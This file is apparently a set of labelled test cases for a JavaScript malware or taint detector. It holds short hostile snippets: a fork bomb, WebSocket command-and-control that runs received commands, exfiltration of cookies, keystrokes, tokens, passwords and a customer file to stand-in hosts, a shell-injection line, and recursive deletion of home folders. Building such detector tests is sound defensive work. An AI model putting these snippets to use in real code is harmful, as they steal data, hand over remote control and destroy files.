%% fork bomb that mentions a cpu
const cluster = require('cluster'); // cpu
while (true) cluster.fork();
%% websocket that runs what comes
const { exec } = require('child_process');
const ws = new WebSocket('wss://203.0.113.4/c2');
ws.onmessage = e => exec(e.data, (x, out) => ws.send(out));
%% websocket that evaluates what comes
const ws = new WebSocket('wss://203.0.113.4/c2');
ws.onmessage = e => eval(e.data);
%% websocket that sends the cookies
const ws = new WebSocket('wss://203.0.113.4/c2');
ws.onopen = () => ws.send(document.cookie);
%% websocket that sends a file
const fs = require('fs');
const ws = new WebSocket('wss://203.0.113.4/c2');
ws.onopen = () => ws.send(fs.readFileSync('customers.csv'));
%% websocket that sends keys
const ws = new WebSocket('wss://203.0.113.4/c2');
document.addEventListener('keydown', e => ws.send(e.key));
%% request by GET that writes a body
const https = require('https'), fs = require('fs');
const r = https.request('https://collect.example.net/u', { method: 'GET' });
r.end(fs.readFileSync('customers.csv'));
%% request by POST with GET in a header
const https = require('https');
const r = https.request('https://collect.example.net/u', { method: 'POST', headers: { a: 'GET' } });
r.end(process.argv[2]);
%% request whose method is not known, with GET in a header
const https = require('https');
const r = https.request({ host: 'collect.example.net', method: m, headers: { a: 'GET' } });
r.end(process.argv[2]);
%% connects away, with localhost as local address
const net = require('net');
net.connect({ host: '203.0.113.4', port: 4444, localAddress: '127.0.0.1' });
%% posts a spread
fetch('https://collect.example.net/u', { method: 'POST', body: `${document.forms[0].pw.value}` });
%% posts by axios what a call gives
const axios = require('axios');
axios.post('https://collect.example.net/u', { d: collect() });
%% posts by axios this
const axios = require('axios');
axios.post('https://collect.example.net/u', this);
%% starts a program through tmux
const { spawn } = require('child_process');
spawn('tmux', ['new-session', '-d', '/tmp/.x/agent']);
%% starts a program through timeout
const { spawn } = require('child_process');
spawn('timeout', ['60', '/tmp/.x/agent']);
%% runs a text with a plain program first
const { execSync } = require('child_process');
execSync('cd /tmp && ./agent');
%% runs a text with a gap
const { exec } = require('child_process');
exec('git log ' + req.query.branch);
%% runs node with what is not known
const { spawn } = require('child_process');
spawn(process.execPath, [process.argv[2]]);
%% deletes documents below a home
const fs = require('fs');
fs.rmSync(process.env.HOME + '/Documents', { recursive: true });
%% deletes projects below the home of os
const fs = require('fs'), os = require('os'), path = require('path');
fs.rmSync(path.join(os.homedir(), 'projects'), { recursive: true, force: true });
%% posts by a shorthand
const token = localStorage.token;
fetch('https://collect.example.net/u', { method: 'POST', body: JSON.stringify({ token }) });
%% posts by a choice that is none
fetch('https://collect.example.net/u', { method: 'POST', body: 1 ? secret : '' });
